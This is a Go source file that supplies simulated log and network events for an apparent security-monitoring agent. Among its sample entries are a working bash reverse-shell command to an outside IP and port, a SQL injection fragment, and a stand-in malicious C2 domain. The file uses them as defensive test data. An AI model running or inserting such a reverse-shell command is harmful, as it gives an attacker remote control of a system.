// Package source provides event sources for the monitoring agents: built-in
// sample feeds for simulation and a file-tail source for real feeds.
package source

import "github.com/driftsec/sentry/internal/types"

// SampleLogEntries returns the built-in simulated log feed.
func SampleLogEntries() []types.LogEvent {
	return []types.LogEvent{
		{
			Level:   "ERROR",
			Message: "Failed login attempt for user 'root' from IP 202.94.32.6 - SSH",
			Source:  "Auth Logs",
			Details: "User authentication failure",
		},
		{
			Level:   "WARNING",
			Message: "Web server 192.168.1.10 received potential XSS payload in POST request",
			Source:  "Web Server",
			Details: "Possible XSS attack attempt",
		},
		{
			Level:   "CRITICAL",
			Message: "Malware signature detected in file: /tmp/.hidden/payload.elf",
			Source:  "Antivirus",
			Details: "Malware detected",
		},
		{
			Level:   "WARNING",
			Message: "DNS query to known C2 domain: evil-malware.example.com",
			Source:  "DNS Server",
			Details: "Potential command and control activity",
		},
		{
			Level:   "WARNING",
			Message: "Unusual process spawned: bash -i >& /dev/tcp/45.63.82.91/4444 0>&1",
			Source:  "System Logs",
			Details: "Reverse shell attempt",
		},
		{
			Level:   "INFO",
			Message: "User 'analyst1' accessed threat intelligence dashboard",
			Source:  "Application Logs",
			Details: "User activity",
		},
		{
			Level:   "INFO",
			Message: "File integrity check completed - 3 modified system files",
			Source:  "File Integrity",
			Details: "System file changes",
		},
		{
			Level:   "ERROR",
			Message: "Database query failed: Syntax error in SQL statement near 'WHERE 1=1;--'",
			Source:  "Database",
			Details: "Potential SQL injection",
		},
	}
}

// SampleNetworkEvents returns the built-in simulated network feed.
func SampleNetworkEvents() []types.NetworkEvent {
	return []types.NetworkEvent{
		{
			Kind:        types.NetworkConnection,
			Source:      "192.168.1.45",
			Destination: "208.118.235.174",
			Port:        22,
			Protocol:    "SSH",
			Details:     "Multiple failed authentication attempts",
		},
		{
			Kind:        types.NetworkScan,
			Source:      "192.168.1.35",
			Destination: "192.168.1.0/24",
			Ports:       []int{80, 443, 22, 21},
			Protocol:    "TCP",
			Details:     "Port scanning activity detected",
		},
		{
			Kind:        types.NetworkTraffic,
			Source:      "192.168.1.10",
			Destination: "45.63.82.91",
			Port:        4444,
			Protocol:    "TCP",
			Details:     "Suspicious outbound connection to uncommon port",
		},
		{
			Kind:        types.NetworkDNS,
			Source:      "192.168.1.20",
			Destination: "evil-malware.example.com",
			Protocol:    "DNS",
			Details:     "Query to known malicious domain",
		},
		{
			Kind:        types.NetworkTraffic,
			Source:      "10.0.0.15",
			Destination: "192.168.1.1",
			Port:        445,
			Protocol:    "SMB",
			Details:     "Large volume of SMB traffic - possible lateral movement",
		},
	}
}
